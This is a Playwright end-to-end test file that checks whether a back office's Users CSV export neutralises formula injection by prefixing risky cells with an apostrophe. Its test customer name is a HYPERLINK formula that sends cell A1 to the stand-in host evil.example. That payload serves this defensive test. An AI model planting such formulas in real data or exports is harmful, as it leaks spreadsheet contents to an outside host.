/**
 * A spreadsheet must never run what a customer typed (CSV formula injection): staff export the
 * Users list from the back office, a customer there is named "=HYPERLINK(...)", and the file
 * that downloads holds the name as text (an apostrophe in front), as it does every cell that
 * starts with = + - @ tab or CR. (admin/src/exports.test.ts checks every list's export.)
 */
import { test, expect } from '../support/fixtures.ts';
import { loginAdmin, newCustomer } from '../support/api.ts';
import { openConsole } from '../support/console.ts';

/** The cells of one CSV line in which every cell is quoted, as the back office writes them. */
const cells = (line: string) => [...line.matchAll(/"((?:[^"]|"")*)"/g)].map((m) => m[1]!.replace(/""/g, '"'));

test('the Users export neutralises a name that is a spreadsheet formula', async ({ page, request }) => {
  const admin = await loginAdmin(request);
  const customer = newCustomer('formula');
  const name = `=HYPERLINK("https://evil.example/?leak="&A1,"Open") ${customer.email.split('@')[0]}`;
  const signup = await request.post('/api/auth/signup', { data: { ...customer, name } });
  expect(signup.status(), await signup.text()).toBe(201);

  await openConsole(page, admin, `/users?filter=${encodeURIComponent(JSON.stringify({ q: customer.email }))}`);
  // The search may match other customers' addresses too (other specs sign up at the same time): look at this one's row.
  const listed = page.locator('tbody tr', { hasText: customer.email });
  await expect(listed).toHaveCount(1);
  await expect(listed).toContainText(name);
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export' }).click();
  const file = await download;
  expect(file.suggestedFilename()).toBe('users.csv');
  let csv = '';
  for await (const chunk of await file.createReadStream()) csv += chunk;

  const [header, ...lines] = csv.trim().split('\n');
  expect(header).toBe('id,name,email,phone,address,role');
  const mine = lines.filter((line) => line.includes(customer.email));
  expect(mine).toHaveLength(1);
  const row = Object.fromEntries(header!.split(',').map((column, i) => [column, cells(mine[0]!)[i]]));
  expect(row).toMatchObject({ name: `'${name}`, email: customer.email, phone: `'${customer.phone}`, address: customer.address, role: 'user' });
});
